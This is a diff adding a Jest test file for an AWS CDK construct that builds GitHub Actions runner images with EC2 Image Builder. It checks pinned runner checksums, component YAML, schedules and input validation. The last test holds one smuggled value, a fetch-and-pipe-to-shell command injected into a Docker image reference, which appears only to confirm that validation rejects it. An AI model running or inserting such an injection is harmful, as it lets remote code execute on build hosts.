@@ -1,0 +1,128 @@
+import * as fs from 'fs';
+import * as path from 'path';
+import { App, Stack } from 'aws-cdk-lib';
+import { Match, Template } from 'aws-cdk-lib/assertions';
+import * as ec2 from 'aws-cdk-lib/aws-ec2';
+import * as yaml from 'js-yaml';
+import { EphemeralRunners, EphemeralRunnersProps, RunnerArchitecture, RunnerImagePipeline, RunnerMachineImage, UbuntuRelease } from '../../src';
+
+function synth(props: Partial<EphemeralRunnersProps> = {}): Template {
+  const stack = new Stack(new App(), 'Test');
+  const vpc = new ec2.Vpc(stack, 'Vpc', { natGateways: 0, subnetConfiguration: [{ name: 'public', subnetType: ec2.SubnetType.PUBLIC }] });
+  new EphemeralRunners(stack, 'Runners', {
+    github: { url: 'https://ghes.example.com', appId: '12' },
+    vpc,
+    runnerConfigs: [{ name: 'linux-x64', labels: ['linux', 'x64'] }],
+    ...props,
+  });
+  return Template.fromStack(stack);
+}
+
+function components(template: Template): Record<string, string> {
+  return Object.fromEntries(Object.values(template.findResources('AWS::ImageBuilder::Component'))
+    .map((c) => [String(c.Properties.Name).replace(/^ephemeral-runners-[0-9a-f]{10}-/, ''), String(c.Properties.Data)]));
+}
+
+describe('the runner image pipeline', () => {
+  const template = synth();
+
+  test('by default the construct builds its own image on Ubuntu 24.04 and launches from the SSM parameter the builds update', () => {
+    template.hasResourceProperties('AWS::ImageBuilder::ImageRecipe', {
+      ParentImage: 'ssm:/aws/service/canonical/ubuntu/server/24.04/stable/current/amd64/hvm/ebs-gp3/ami-id',
+      BlockDeviceMappings: [{ DeviceName: '/dev/sda1', Ebs: Match.objectLike({ Encrypted: true, VolumeType: 'gp3' }) }],
+    });
+    template.hasResourceProperties('AWS::ImageBuilder::DistributionConfiguration', {
+      Distributions: [Match.objectLike({
+        SsmParameterConfigurations: [{ ParameterName: '/ephemeral-runners/Test/Runners/image/x64', DataType: 'aws:ec2:image' }],
+      })],
+    });
+    template.hasResourceProperties('AWS::EC2::LaunchTemplate', {
+      LaunchTemplateData: Match.objectLike({ ImageId: 'resolve:ssm:/ephemeral-runners/Test/Runners/image/x64' }),
+    });
+  });
+
+  test('the runner is pinned and verified by its SHA-256 before it is unpacked', () => {
+    const release = RunnerImagePipeline.DEFAULT_RUNNER_RELEASE;
+    template.hasResourceProperties('AWS::ImageBuilder::ImageRecipe', {
+      Components: Match.arrayWith([Match.objectLike({
+        Parameters: [
+          { Name: 'Version', Value: [release.version] },
+          { Name: 'Sha256X64', Value: [release.sha256X64] },
+          { Name: 'Sha256Arm64', Value: [release.sha256Arm64] },
+        ],
+      })]),
+    });
+    const runner = components(template)['install-runner'];
+    expect(runner.indexOf('sha256sum --check')).toBeGreaterThan(0);
+    expect(runner.indexOf('sha256sum --check')).toBeLessThan(runner.indexOf('tar -xzf'));
+  });
+
+  test('the image holds the bootstrap, Docker and build tools; the bootstrap itself installs nothing', () => {
+    const docs = components(template);
+    const bootstrap = fs.readFileSync(path.join(__dirname, '..', '..', 'image-builder', 'bootstrap.sh'), 'utf8');
+    expect(docs.bootstrap).toContain('path: /opt/ephemeral-runners/bootstrap.sh');
+    expect(docs.bootstrap).toContain('              set -euo pipefail');
+    expect(docs['install-tools']).toMatch(/docker\.io/);
+    expect(bootstrap).not.toMatch(/apt-get|yum |dnf |snap install|pip install/);
+  });
+
+  test('every component document is YAML Image Builder can read: name, schemaVersion 1.0, phases with steps', () => {
+    for (const [name, doc] of Object.entries(components(template))) {
+      expect({ name, header: /^name: \S+\ndescription: .+\nschemaVersion: 1\.0\n/.test(doc) }).toEqual({ name, header: true });
+      const parsed = yaml.load(doc) as { schemaVersion: number; phases: Array<{ name: string; steps: unknown[] }> };
+      expect(parsed.schemaVersion).toBe(1);
+      expect(parsed.phases[0]).toMatchObject({ name: 'build', steps: expect.any(Array) });
+      expect(parsed.phases[0].steps.length).toBeGreaterThan(0);
+    }
+    // The bootstrap arrives in the image byte for byte.
+    const bootstrap = yaml.load(components(template).bootstrap) as { phases: Array<{ steps: Array<{ inputs: Array<{ content: string }> }> }> };
+    expect(bootstrap.phases[0].steps[0].inputs[0].content)
+      .toBe(`${fs.readFileSync(path.join(__dirname, '..', '..', 'image-builder', 'bootstrap.sh'), 'utf8').trimEnd()}\n`);
+  });
+
+  test('builds run on a schedule and on deploy; only the newest images are kept', () => {
+    template.hasResourceProperties('AWS::ImageBuilder::ImagePipeline', {
+      Schedule: { ScheduleExpression: 'cron(0 4 ? * sun *)', PipelineExecutionStartCondition: 'EXPRESSION_MATCH_ONLY' },
+    });
+    template.hasResourceProperties('AWS::ImageBuilder::LifecyclePolicy', {
+      ResourceType: 'AMI_IMAGE',
+      PolicyDetails: [{ Action: { Type: 'DELETE', IncludeResources: { Amis: true, Snapshots: true } }, Filter: { Type: 'COUNT', Value: 3 } }],
+    });
+    const start = Object.values(template.findResources('Custom::AWS'));
+    expect(start).toHaveLength(1);
+    expect(JSON.stringify(start[0].Properties.Create)).toMatch(/startImagePipelineExecution/);
+    template.hasResourceProperties('AWS::ImageBuilder::InfrastructureConfiguration', {
+      TerminateInstanceOnFailure: true,
+      InstanceMetadataOptions: { HttpTokens: 'required', HttpPutResponseHopLimit: 2 },
+    });
+  });
+
+  test('one pipeline per architecture the configs use; 22.04 selectable; images pre-pulled; a private CA trusted', () => {
+    const pem = '-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUYWJj\n-----END CERTIFICATE-----';
+    const t = synth({
+      runnerConfigs: [
+        { name: 'x64', labels: ['linux', 'x64'] },
+        { name: 'arm', labels: ['linux', 'arm64', 'graviton'], architecture: RunnerArchitecture.ARM64 },
+      ],
+      runnerImage: { ubuntuRelease: UbuntuRelease.UBUNTU_22_04, prePulledImages: ['node:22', 'ghcr.io/acme/build@sha256:' + 'a'.repeat(64)], caCertificatesPem: pem, keepImages: 5 },
+    });
+    t.resourceCountIs('AWS::ImageBuilder::ImagePipeline', 2);
+    t.hasResourceProperties('AWS::ImageBuilder::ImageRecipe', { ParentImage: Match.stringLikeRegexp('/22.04/stable/current/arm64/') });
+    const docs = components(t);
+    expect(docs['pre-pull']).toContain("docker pull 'node:22'");
+    expect(docs['ca-certificates']).toContain('update-ca-certificates');
+    t.hasResourceProperties('AWS::ImageBuilder::LifecyclePolicy', { PolicyDetails: [Match.objectLike({ Filter: { Type: 'COUNT', Value: 5 } })] });
+  });
+
+  test('a custom image replaces the pipeline', () => {
+    const t = synth({ machineImage: RunnerMachineImage.fromAmiIds('ami-0123456789abcdef0') });
+    t.resourceCountIs('AWS::ImageBuilder::ImagePipeline', 0);
+    t.hasResourceProperties('AWS::EC2::LaunchTemplate', { LaunchTemplateData: Match.objectLike({ ImageId: 'ami-0123456789abcdef0' }) });
+  });
+
+  test('a malformed runner checksum or image reference is refused with what to fix', () => {
+    expect(() => synth({ runnerImage: { runnerRelease: { version: '2.329', sha256X64: 'abc', sha256Arm64: 'f'.repeat(64) } } }))
+      .toThrow(/runnerRelease.version "2.329" is not a version like 2.329.0; runnerRelease.sha256X64 is not a SHA-256/);
+    expect(() => synth({ runnerImage: { prePulledImages: ["node:22'; curl evil | sh; '"] } })).toThrow(/prePulledImages holds entries that are not image references/);
+  });
+});
